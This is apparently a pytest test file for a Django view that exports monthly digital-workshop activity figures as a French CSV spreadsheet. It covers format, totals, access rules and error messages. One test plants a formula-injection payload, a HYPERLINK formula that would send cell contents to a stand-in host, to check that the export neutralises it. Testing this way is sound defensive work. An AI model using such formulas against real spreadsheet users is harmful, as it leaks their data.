"""The activity figures as a spreadsheet (`ateliers:activite_csv`): UTF-8 with BOM, `;`, decimal
comma for the hours, one row per month and a total row (distinct participants over the period),
French header, formula injection neutralised, bad parameters → 400 with a French message."""

import csv
import io

import pytest
from django.urls import reverse

from comptes.models import Role
from comptes.tests.factories import make_member

from .test_activite_chiffres import jeu

pytestmark = pytest.mark.django_db
URL = reverse("ateliers:activite_csv")
PERIODE = {"du": "2025-01", "au": "2025-03"}


@pytest.fixture
def m():
    return jeu()


def lire(response) -> list[list[str]]:
    contenu = response.content.decode("utf-8")
    assert contenu.startswith("\ufeff")
    assert "\r\n" in contenu
    return list(csv.reader(io.StringIO(contenu[1:], newline=""), delimiter=";"))


def test_le_fichier_du_lieu(client, login, m):
    response = login(m.responsable).get(URL, PERIODE)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="activite-tiers-lieu-la-quincaillerie-2025-01-2025-03.csv"'
    )
    assert response["Cache-Control"] == "no-store, private"
    entete, janvier, fevrier, mars, total = lire(response)
    assert entete[:10] == [
        "Lieu",
        "Médiateur·rice",
        "Mois",
        "Séances tenues",
        "Heures délivrées",
        "Participant·es (personnes distinctes)",
        "Venu·es sans inscription",
        "Présences",
        "Chèques pris à l’émargement",
        "Chèques encaissés par le lieu",
    ]
    assert entete[10:] == [
        "Thème : Prise en main (ordinateur, smartphone, tablette)",
        "Thème : E-mail",
        "Thème : Bureautique",
        "Thème : Sécurité",
        "Thème : Aide aux démarches administratives",
    ]
    mois_et_chiffres = ["01/2025", "3", "3,00", "2", "1", "3", "1", "1"]
    assert janvier == ["Tiers-lieu La Quincaillerie", "Toute l’équipe", *mois_et_chiffres, "1", "1", "1", "1", "0"]
    assert fevrier[2:10] == ["02/2025", "2", "2,75", "2", "6", "2", "1", "2"]
    # Seen from today, S8 (25 March 2025) has started: 2 sessions, 2 h, 5 walk-ins.
    assert mars[2:10] == ["03/2025", "2", "2,00", "1", "5", "1", "0", "1"]
    # Participants: 3 distinct people over the period, not 2 + 2 + 1.
    assert total[2:] == ["Total", "7", "7,75", "3", "12", "6", "2", "4", "2", "3", "1", "1", "1"]


def test_le_fichier_d_un_mediateur(client, login, m):
    response = login(m.b).get(URL, {**PERIODE, "mediateur": m.a.user_id})
    lignes = lire(response)
    assert lignes[1][1] == str(m.a.user)
    assert lignes[-1][2:10] == ["Total", "3", "4,00", "3", "3", "4", "2", "2"]


def test_injection_de_formule_neutralisee(client, login, m):
    m.lieu.nom = '=HYPERLINK("http://exemple.test/?x="&A1;"Cliquez")'
    m.lieu.save()
    m.a.user.first_name, m.a.user.last_name = "+Sam", "@Malin"
    m.a.user.save()
    response = login(m.responsable).get(URL, {**PERIODE, "mediateur": m.a.user_id})
    assert response.status_code == 200
    premiere = lire(response)[1]
    assert premiere[0] == "'" + m.lieu.nom
    assert premiere[1] == "'+Sam @Malin"
    assert response["Content-Disposition"].startswith('attachment; filename="activite-hyperlinkhttpexemple')


@pytest.mark.parametrize(
    ("parametres", "message"),
    [
        ({"du": "2025-13"}, "Le mois 13 n’existe pas"),
        ({"du": "abc"}, "Indiquez un mois sous la forme AAAA-MM"),
        ({"du": "2025-03", "au": "2025-01"}, "Le mois de fin doit venir après le mois de début"),
        ({"du": "2021-01", "au": "2025-01"}, "La période compte 49 mois : 36 mois au plus"),
        ({"mediateur": "abc"}, "Choisissez un·e membre du lieu dans la liste."),
    ],
)
def test_parametres_invalides(client, login, m, parametres, message):
    response = login(m.responsable).get(URL, parametres)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    texte = response.content.decode()
    assert texte.startswith("Export impossible : ") and message in texte


def test_la_coordination_exporte_un_lieu_du_departement(client, login, m):
    coordinateur = make_member(Role.COORDINATEUR, departement=m.lieu.departement)
    response = login(coordinateur).get(URL, {**PERIODE, "lieu": m.lieu.pk})
    assert response.status_code == 200
    assert lire(response)[-1][3] == "7"
    assert login(coordinateur).get(URL, PERIODE).status_code == 404
